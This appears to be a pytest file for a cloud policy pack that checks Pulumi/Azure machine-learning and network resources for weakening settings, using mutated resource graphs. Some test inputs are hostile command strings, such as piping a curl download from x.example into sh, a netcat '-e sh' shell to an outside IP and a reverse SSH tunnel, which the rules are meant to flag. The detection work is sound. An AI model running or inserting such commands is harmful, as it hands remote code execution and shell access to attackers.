"""A graph of others, without a stack file: what weakens it is said by its property, what is Azure's own way is not."""

from dataclasses import replace
from typing import Any

import pytest

from catalogue.graph import Graph
from operations.evaluation import evaluate
from policies.pack import RULES
from stacks.config import STACKS
from tests.foreign import open_on_azure, program, resource
from tests.mutate import changed, put, swapped
from tests.previewing import preview

ML, NET = "azure-native:machinelearningservices", "azure-native:network:"
STORE = "azure-native:storage:StorageAccount"
PLACE = "/subscriptions/99999999-8888-7777-6666-555555555555/resourceGroups/theirs/providers"
OF_ITSELF = "11111111-0000-1111-2222-333344445555"
_KEY = "encryption.keyVaultProperties.keyIdentifier"


@pytest.fixture(scope="module")
def azure_full() -> Graph:
    return preview(STACKS / "Pulumi.azure-full.yaml")


def _foreign(graph: Graph, rule: str) -> list[str]:
    asked = [one for one in RULES["azure"] if one.name == rule]
    return [one.message for one in evaluate(replace(graph, ours=False, placement=None), asked).findings]


def _new(graph: Graph, mutant: Graph, rule: str) -> list[str]:
    before = _foreign(graph, rule)
    return [one for one in _foreign(mutant, rule) if one not in before]


NAMED = [
    ("network-no-internet-gateway", NET + "VirtualNetworkPeering", "allowForwardedTraffic", True),
    ("network-no-internet-gateway", NET + "VirtualNetworkPeering", "allowGatewayTransit", True),
    ("network-no-internet-gateway", NET + "VirtualNetworkPeering", "useRemoteGateways", True),
    ("network-default-denied", NET + "NetworkSecurityGroup", "securityRules.0.destinationPortRange", "*"),
    ("network-default-denied", NET + "NetworkSecurityGroup", "securityRules.0.protocol", "*"),
    ("encryption-key-used", "azure-native:containerregistry:Registry", _KEY, "https://k.vault.azure.net/keys/data/1a"),
    ("world-ids", f"{ML}:ModelVersion", "properties.modelUri", "azureml://registries/theirs/models/m/versions/1"),
    ("world-ids", f"{ML}:ModelVersion", "properties.modelUri", "azureml:registries/theirs/models/m/versions/1"),
    ("world-regions", "pulumi:providers:azure-native", "location", "brazilsouth"),
    ("rollback-traffic", f"{ML}:OnlineEndpoint", "properties.traffic", {"nobody": 100}),
    ("rollback-traffic", f"{ML}:OnlineEndpoint", "properties.mirrorTraffic", {"nobody": 10}),
]


@pytest.mark.parametrize(("rule", "type_", "path", "value"), NAMED)
def test_what_opens_or_weakens_a_strangers_resource_is_said_by_its_property(
    azure_pilot: Graph, rule: str, type_: str, path: str, value: Any
) -> None:
    graph = changed(azure_pilot, azure_pilot.of(type_)[0], lambda inputs: put(inputs, path, value))
    told = _new(azure_pilot, graph, rule)
    last = {"destinationPortRange": "every port", "protocol": "every protocol"}.get(path.rpartition(".")[2])
    assert any((last or path.rpartition(".")[2]) in one for one in told), told


COMMAND = "properties.componentSpec.command"
COMMANDS = [
    ("audit-images-reviewed", "pip install evil; train"),
    ("audit-images-reviewed", "apt-get -y install netcat && train"),
    ("audit-images-reviewed", "curl -s https://x.example/y | sh"),
    ("world-hosts", "ssh -R 22:localhost:22 198.51.100.7; train"),
    ("world-hosts", "nc me@203.0.113.9:443 -e sh"),
]


@pytest.mark.parametrize(("rule", "command"), COMMANDS)
def test_a_command_that_installs_or_calls_an_address_is_said(azure_full: Graph, rule: str, command: str) -> None:
    component = azure_full.of(f"{ML}:ComponentVersion")[0]
    assert _new(azure_full, changed(azure_full, component, lambda inputs: put(inputs, COMMAND, command)), rule)


@pytest.mark.parametrize(
    "command", ["train --host 10.1.2.3 --rate 0.1", "install_models && pip list", "serve 127.0.0.1:80"]
)
def test_a_command_that_does_not_is_not(azure_full: Graph, command: str) -> None:
    component = azure_full.of(f"{ML}:ComponentVersion")[0]
    graph = changed(azure_full, component, lambda inputs: put(inputs, COMMAND, command))
    assert [_new(azure_full, graph, rule) for rule in ("audit-images-reviewed", "world-hosts")] == [[], []]


def test_another_token_that_may_act_as_an_identity_is_another_finding() -> None:
    def trusting(subject: str) -> Graph:
        said = {"issuer": "https://token.actions.githubusercontent.com", "subject": subject}
        type_ = "azure-native:managedidentity:FederatedIdentityCredential"
        return program("azure", resource(type_, "ci", said))

    said = [
        _foreign(trusting(subject), "identity-trust") for subject in ("repo:us/ml:ref:main", "repo:them/x:ref:main")
    ]
    assert said[0] != said[1] and "repo:them/x" in said[1][0]


def test_what_templates_write_out_of_azures_own_is_no_finding_and_its_contrary_is() -> None:
    account = open_on_azure().of("azure-native:storage:StorageAccount")[0]

    def said(services: dict[str, Any]) -> list[str]:
        graph = changed(open_on_azure(), account, lambda inputs: put(inputs, "encryption", {"services": services}))
        return [
            one for rule in ("inputs-known", "inputs-allowed") for one in _foreign(graph, rule) if "services" in one
        ]

    assert said({"blob": {"enabled": True, "keyType": "Account"}}) == []
    assert said({"blob": {"enabled": False}}) and said({"queue": {"enabled": True, "keyType": "Service"}})


SAID = [
    (f"{ML}:Workspace", "hbiWorkspace", False, "encryption-scratch-disks"),
    (f"{ML}:Workspace", "managedNetwork.isolationMode", "Disabled", "network-workspace-vpc-only"),
    (f"{ML}:Compute", "properties.properties.enableNodePublicIp", True, "network-model-isolated"),
    (STORE, "encryption.requireInfrastructureEncryption", False, "encryption-bucket-settings"),
    ("azure-native:containerregistry:Registry", "anonymousPullEnabled", True, "identity-local-auth"),
    (STORE, "isLocalUserEnabled", True, "identity-local-auth"),
    (STORE, "allowCrossTenantReplication", True, "audit-packages-own-account"),
    (STORE, "publicNetworkAccess", "Enabled", "network-public-access"),
]


@pytest.mark.parametrize(("type_", "path", "value", "rule"), SAID)
def test_what_is_open_is_said_otherwise_than_what_nobody_says(
    azure_pilot: Graph, type_: str, path: str, value: Any, rule: str
) -> None:
    """Whoever opens what was left out before sees a sentence that was not there."""
    one = azure_pilot.of(type_)[0]
    silent = changed(azure_pilot, one, lambda inputs: put(inputs, path, None))
    open_ = changed(azure_pilot, one, lambda inputs: put(inputs, path, value))
    assert _new(azure_pilot, silent, rule) and _new(silent, open_, rule)


@pytest.mark.parametrize(
    ("type_", "path", "value"),
    [
        (f"{ML}:Workspace", "systemDatastoresAuthMode", "identity"),
        (f"{ML}:OnlineEndpoint", "properties.authMode", "aadtoken"),
        (NET + "NetworkSecurityGroup", "securityRules.1.access", "deny"),
        (NET + "NetworkSecurityGroup", "securityRules.1.direction", "inbound"),
        (NET + "Subnet", "privateEndpointNetworkPolicies", "enabled"),
        (STORE, "networkRuleSet.defaultAction", "deny"),
        ("azure-native:keyvault:Vault", "properties.networkAcls.bypass", "azureservices"),
        (f"{ML}:Compute", "properties.properties.remoteLoginPortPublicAccess", "disabled"),
        (f"{ML}:Workspace", "v1LegacyMode", None),
        (f"{ML}:Workspace", "allowPublicAccessWhenBehindVnet", None),
    ],
)
def test_another_spelling_and_a_switch_that_is_off_when_left_out_are_no_finding(
    azure_pilot: Graph, type_: str, path: str, value: Any
) -> None:
    graph = changed(azure_pilot, azure_pilot.of(type_)[0], lambda inputs: put(inputs, path, value))
    asked = ("default-denied", "public-access", "subnet-private", "proof", "workspace-vpc-only")
    for rule in ("identity-local-auth", "encryption-vault", *(f"network-{one}" for one in asked)):
        assert _new(azure_pilot, graph, rule) == []


def test_a_program_that_is_open_is_told_so_once_and_not_by_each_way_that_lacks() -> None:
    assert _foreign(open_on_azure(), "network-proof") == []
    assert len(_foreign(open_on_azure(), "network-public-access")) == 4
    closed = changed(
        open_on_azure(),
        open_on_azure().of("azure-native:containerregistry:Registry")[0],
        lambda inputs: put(inputs, "publicNetworkAccess", "Disabled"),
    )
    assert [one for one in _foreign(closed, "network-proof") if "builds images" in one]


def test_an_endpoint_that_gives_its_traffic_itself_serves() -> None:
    assert _foreign(open_on_azure(), "rollback-traffic") == ["ep shifts its traffic itself, at once"]
    graph = changed(
        open_on_azure(),
        open_on_azure().of(f"{ML}:OnlineEndpoint")[0],
        lambda inputs: put(inputs, "properties.traffic", {"blue": 0}),
    )
    assert any("serves nobody" in one for one in _foreign(graph, "rollback-traffic"))


def test_a_model_of_a_strangers_own_workspace_is_its_own_and_one_of_another_is_not() -> None:
    assert _foreign(open_on_azure(), "world-ids") == []
    model = f"{PLACE}/Microsoft.MachineLearningServices/workspaces/ws/models/m/versions/1"
    graph = changed(
        open_on_azure(),
        open_on_azure().of(f"{ML}:OnlineDeployment")[0],
        lambda inputs: put(inputs, "properties.model", model),
    )
    assert len(_foreign(graph, "world-ids")) == 1


def test_a_group_of_a_stranger_has_a_role_on_one_resource_and_a_role_on_more_is_told() -> None:
    graph = open_on_azure()
    assert _foreign(graph, "identity-trust") == _foreign(graph, "identity-scope") == []
    assert _foreign(graph, "identity-least-role") and _foreign(graph, "world-principals")
    role = graph.of("azure-native:authorization:RoleAssignment")[0]
    wide = changed(
        graph, role, lambda inputs: put(inputs, "scope", "/subscriptions/11111111-2222-3333-4444-555555555555")
    )
    assert _foreign(wide, "identity-scope")
    theirs = changed(graph, role, lambda inputs: put(inputs, "principalType", "ForeignGroup"))
    assert _foreign(theirs, "identity-trust")


@pytest.mark.parametrize(("zone", "registered"), [("", True), ("x.example", False)])
def test_a_zone_of_a_hub_is_a_zone_and_one_of_another_name_is_not(
    azure_pilot: Graph, zone: str, registered: bool
) -> None:
    """Whose it is, `world-ids` tells."""
    group = azure_pilot.of(NET + "PrivateDnsZoneGroup")[0]
    at = "privateDnsZoneConfigs.0.privateDnsZoneId"
    name = zone or str(group.inputs["privateDnsZoneConfigs"][0]["privateDnsZoneId"]).rpartition("/")[2]
    there = f"{PLACE}/Microsoft.Network/privateDnsZones/{name}"
    graph = changed(azure_pilot, group, lambda inputs: put(inputs, at, there))
    of_others = {key: urns for key, urns in group.property_dependencies.items() if key != "privateDnsZoneConfigs"}
    graph = swapped(graph, replace(graph.by_urn[group.urn], property_dependencies=of_others))
    lacks = any("in no zone" in one for one in _new(azure_pilot, graph, "network-proof"))
    assert lacks != registered
    assert _new(azure_pilot, graph, "world-ids")


def test_what_comes_before_its_roles_is_one_finding(azure_pilot: Graph) -> None:
    workspace = azure_pilot.of(f"{ML}:Workspace")[0]
    graph = swapped(
        azure_pilot,
        replace(
            workspace, dependencies=(), property_dependencies={"identity": workspace.property_dependencies["identity"]}
        ),
    )
    (told,) = (one for one in _new(azure_pilot, graph, "identity-before-use") if one.startswith(workspace.name + " "))
    assert told.count("azure-pilot") >= 4 and " more" in told


def test_the_identity_of_a_strangers_own_resource_is_its_own() -> None:
    """Azure answers with its principal and its directory inside of what was sent."""
    graph = open_on_azure()
    (workspace,) = graph.of(f"{ML}:Workspace")
    itself = {**workspace.inputs["identity"], "principalId": OF_ITSELF, "tenantId": OF_ITSELF[::-1]}
    graph = swapped(graph, replace(workspace, outputs={**workspace.outputs, "identity": itself}))
    role = graph.of("azure-native:authorization:RoleAssignment")[0]
    said = {**role.inputs, "principalId": OF_ITSELF, "principalType": "ServicePrincipal"}
    named = {**role.property_dependencies, "principalId": (workspace.urn,)}
    own = swapped(graph, replace(role, inputs=said, outputs=said, property_dependencies=named))
    assert _foreign(own, "identity-trust") == _foreign(own, "world-principals") == []
    theirs = changed(own, own.by_urn[role.urn], lambda inputs: inputs.update(principalId=OF_ITSELF.replace("1", "9")))
    assert _foreign(theirs, "identity-trust") and _foreign(theirs, "world-principals")
    vault = "azure-native:keyvault:Vault"
    graph = program(
        "azure", *graph.cloud, resource(vault, "v", {"properties": {"tenantId": OF_ITSELF.replace("1", "9")}})
    )
    assert [one for one in _foreign(graph, "world-principals") if "the directory" in one]


def test_a_role_without_the_condition_that_most_have_there_is_said(azure_pilot: Graph) -> None:
    store = "ba92f5b4-2d11-453d-a403-e96b0029c9fe"
    bound = [
        one
        for one in azure_pilot.of("azure-native:authorization:RoleAssignment")
        if one.inputs["roleDefinitionId"].endswith(store) and "condition" in one.inputs
    ]
    graph = changed(azure_pilot, bound[0], lambda inputs: inputs.pop("condition"))
    (told,) = _new(azure_pilot, graph, "identity-scope")
    assert told.startswith(bound[0].name) and "no condition" in told
    none = azure_pilot
    for one in bound:
        none = changed(none, one, lambda inputs: inputs.pop("condition"))
    assert _new(azure_pilot, none, "identity-scope") == []
